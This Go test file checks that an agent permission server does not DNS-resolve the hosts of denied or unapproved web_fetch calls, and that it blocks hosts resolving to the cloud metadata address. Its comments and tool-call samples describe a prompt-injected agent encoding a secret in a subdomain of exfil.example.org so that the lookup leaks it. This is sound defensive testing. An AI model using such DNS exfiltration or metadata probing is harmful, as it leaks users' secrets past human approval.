package tests

import (
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
)

// queryLog is a PacketConn that records the name of every DNS query read
// through it (the server answers as serveDNS does).
type queryLog struct {
	net.PacketConn
	mu    sync.Mutex // guards names
	names []string
}

func (q *queryLog) ReadFrom(b []byte) (int, net.Addr, error) {
	n, from, err := q.PacketConn.ReadFrom(b)
	if err == nil {
		var p dnsmessage.Parser
		if _, perr := p.Start(b[:n]); perr == nil {
			if qq, qerr := p.Question(); qerr == nil {
				q.mu.Lock()
				q.names = append(q.names, strings.TrimSuffix(strings.ToLower(qq.Name.String()), "."))
				q.mu.Unlock()
			}
		}
	}
	return n, from, err
}

// loggedDNS is dnsServer with a queryLog of what it was asked.
func loggedDNS(t *testing.T, answers map[string][]netip.Addr) (*queryLog, string) {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	log := &queryLog{PacketConn: pc}
	return log, serveDNS(log, answers)
}

// asked reports how many queries named host.
func (q *queryLog) asked(host string) int {
	q.mu.Lock()
	defer q.mu.Unlock()
	n := 0
	for _, s := range q.names {
		if s == host {
			n++
		}
	}
	return n
}

// TestDeniedToolIsNotLookedUp: a web_fetch the policy denies outright
// (denied_tools) is denied policy_denies_action without its host name
// reaching a DNS server — an agent cannot send data out through the names of
// calls it may not make, and the answer waits on no resolver. The control: the
// same call on a turn that does not deny the tool is looked up (and refused
// when the name resolves to a private address), so the first count is not
// zero by accident.
func TestDeniedToolIsNotLookedUp(t *testing.T) {
	t.Parallel()
	log, dns := loggedDNS(t, nil)
	s := StartServer(t, "", "--dns-server", dns)
	root := workspace(t)
	s.JSON("POST", "/v1/turns", map[string]any{"turn_id": "denies", "workspace_id": "ws", "thread_id": "th", "workspace_root": root,
		"permission_profile": map[string]any{"mode": "supervised", "denied_tools": []string{"web_fetch"}}}, http.StatusCreated, nil)
	s.startTurn("asks", "ws", "supervised", root)

	const host = "secret-0123.exfil.example.org"
	wantDecision(t, "denied tool", s.decide("denies", "c1", "web_fetch", map[string]any{"url": "https://" + host + "/"}), "deny", "policy_denies_action", "")
	if n := log.asked(host); n != 0 {
		t.Fatalf("the host of a denied call was looked up %d times", n)
	}
	// Control: the same URL where the tool is not denied asks, and is
	// looked up once a person allows it (NXDOMAIN here: a name that does
	// not exist is asked about, and the allow stands).
	d := s.decide("asks", "c1", "web_fetch", map[string]any{"url": "https://" + host + "/"})
	wantDecision(t, "allowed tool (control)", d, "ask", "policy_requires_approval", "")
	s.respond(d.Request.RequestID, "allow_once")
	if n := log.asked(host); n == 0 {
		t.Fatal("the control was not looked up either: the count proves nothing")
	}
}

// TestAskedURLIsLookedUpOnlyOnceAllowed: a web_fetch that asks a person
// does not send its host name to a DNS server before someone allows it: a
// prompt-injected agent in a supervised turn put a secret in a subdomain of
// its own domain, and the lookup made to judge the call carried it out
// while the person was still reading the request (or denied it). A denied
// request is never looked up; an allowed one is, against the snapshot in
// force then, and an allow_for_turn grant's later calls are looked up as
// they are decided.
func TestAskedURLIsLookedUpOnlyOnceAllowed(t *testing.T) {
	t.Parallel()
	log, dns := loggedDNS(t, nil)
	s := StartServer(t, "", "--dns-server", dns)
	s.startTurn("sup", "ws", "supervised", workspace(t))

	const secret, other = "c2vjcmv0.exfil.example.org", "docs.example.org"
	d := s.decide("sup", "c1", "web_fetch", map[string]any{"url": "https://" + secret + "/"})
	wantDecision(t, "asked", d, "ask", "policy_requires_approval", "")
	d2 := s.decide("sup", "c2", "download_url", map[string]any{"url": "https://" + secret + "/x", "destination": "x"})
	if d2.Decision != "ask" {
		t.Fatalf("download_url: %+v", d2)
	}
	s.respond(d.Request.RequestID, "deny")
	s.respond(d2.Request.RequestID, "deny")
	if n := log.asked(secret); n != 0 {
		t.Fatalf("the host of an asked call was looked up %d times before anyone allowed it", n)
	}
	// Control: allowed, it is looked up, once for the grant's first call
	// and again for each later call the grant allows.
	d = s.decide("sup", "c3", "web_fetch", map[string]any{"url": "https://" + other + "/"})
	if n := log.asked(other); d.Decision != "ask" || n != 0 {
		t.Fatalf("the control before the allow: %+v, looked up %d times", d, n)
	}
	s.respond(d.Request.RequestID, "allow_for_turn")
	after := log.asked(other)
	if after == 0 {
		t.Fatal("an allowed request was not looked up: the zero above proves nothing")
	}
	wantDecision(t, "the grant's next call", s.decide("sup", "c4", "web_fetch", map[string]any{"url": "https://" + other + "/"}), "allow", "cached_approval", "")
	if n := log.asked(other); n <= after {
		t.Fatalf("a call a grant allows was not looked up (%d, %d before)", n, after)
	}
}

// TestClaudeCodeHookWebFetchLookups: with Claude Code's own prompt (ask =
// "ask"), turnstile never sees the person's answer, so a WebFetch that asks
// is looked up before it asks, and one whose host leads to a metadata
// address is denied there (the check would come too late otherwise). With
// ask = "hold" the host is looked up only once someone allows the request,
// and that allow is then answered deny.
func TestClaudeCodeHookWebFetchLookups(t *testing.T) {
	t.Parallel()
	log, dns := loggedDNS(t, map[string][]netip.Addr{"meta.example.org": {netip.MustParseAddr("169.254.169.254")}})
	fetch := func(session, ws, id, url string) []byte {
		return ccEdit(t, ccPayload(t, "pre_webfetch", session, ws), map[string]any{"tool_use_id": id,
			"tool_input": map[string]any{"url": url, "prompt": "read it"}})
	}

	ws := workspace(t)
	prompt := ccServer(t, ws, "supervised", nil, "--dns-server", dns)
	prompt.hook(ccPayload(t, "user_prompt_submit", "sess-p", ws))
	if got := prompt.hook(fetch("sess-p", ws, "toolu_p1", "https://meta.example.org/latest/")); !strings.Contains(got, `"permissionDecision":"deny"`) || !strings.Contains(got, "private_address") {
		t.Fatalf("ask = ask, a host leading to a metadata address: %s", got)
	}
	if got := prompt.hook(fetch("sess-p", ws, "toolu_p2", "https://docs.example.org/")); !strings.Contains(got, `"permissionDecision":"ask"`) {
		t.Fatalf("ask = ask, a host that does not exist (control): %s", got)
	}

	ws2 := workspace(t)
	hold := ccServer(t, ws2, "supervised", map[string]any{"ask": "hold", "hold_wait": "60s"}, "--dns-server", dns)
	hold.hook(ccPayload(t, "user_prompt_submit", "sess-h", ws2))
	before := log.asked("meta.example.org")
	events := hold.subscribe("turn_id="+ccTurn("sess-h", 1), "")
	answer := make(chan string, 1)
	go func() {
		out, errOut, code := hookCommand(t, hold.URL, hold.Token, fetch("sess-h", ws2, "toolu_h1", "https://meta.example.org/latest/"))
		answer <- fmt.Sprintf("%s%s(exit %d)", out, errOut, code)
	}()
	opened := events.NextOf("turn/permission/request/opened")
	req, _ := opened.Params["request"].(map[string]any)
	if n := log.asked("meta.example.org"); n != before {
		t.Fatalf("ask = hold: the host was looked up %d times before anyone answered", n-before)
	}
	var out struct{ Resolution, Reason string }
	hold.JSON("POST", "/v1/approvals/"+str(req["request_id"])+"/respond", map[string]string{"resolution": "allow_once"}, http.StatusOK, &out)
	if out.Resolution != "deny" || out.Reason != "sandbox_denied" {
		t.Fatalf("ask = hold, the allow: %+v", out)
	}
	if got := <-answer; !strings.Contains(got, `"permissionDecision":"deny"`) {
		t.Fatalf("ask = hold, the hook after the allow: %s", got)
	}
	if n := log.asked("meta.example.org"); n == before {
		t.Fatal("ask = hold: the allow was not looked up")
	}
}
